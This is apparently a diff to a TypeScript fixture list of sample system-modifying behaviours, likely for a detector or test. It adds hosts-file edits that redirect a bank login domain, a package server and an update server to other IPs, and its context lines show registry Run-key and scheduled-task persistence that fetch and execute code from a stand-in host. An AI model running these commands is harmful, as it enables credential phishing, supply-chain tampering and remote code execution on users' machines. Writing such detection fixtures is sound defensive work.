@@ -26,6 +26,20 @@ export const BEHAVIOURS_OF_SYSTEM: readonly Sample[] = [
     body: '```powershell\nNew-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Upd -Value "powershell -w hidden -c iwr https://c.example.net|iex"\n```\n',
   },
   {
+    name: 'names of a bank lead elsewhere',
+    body: '```bash\necho "203.0.113.44 login.bank-of-somewhere.com" | sudo tee -a /etc/hosts\n```\n',
+  },
+  {
+    name: 'names of a package server lead elsewhere, by a script',
+    files: {
+      'scripts/net.py': 'with open("/etc/hosts", "a") as f:\n    f.write("198.51.100.7 packages.vendor.io\\n")\n',
+    },
+  },
+  {
+    name: 'names lead elsewhere on Windows',
+    body: '```powershell\nAdd-Content -Path C:\\Windows\\System32\\drivers\\etc\\hosts -Value "203.0.113.9 update.vendor.com"\n```\n',
+  },
+  {
     name: 'schtasks /create /sc minute /tn upd /tr "powershell -c iex(i',
     body: '```cmd\nschtasks /create /sc minute /tn upd /tr "powershell -c iex(iwr https://c.example.net)"\n```\n',
   },
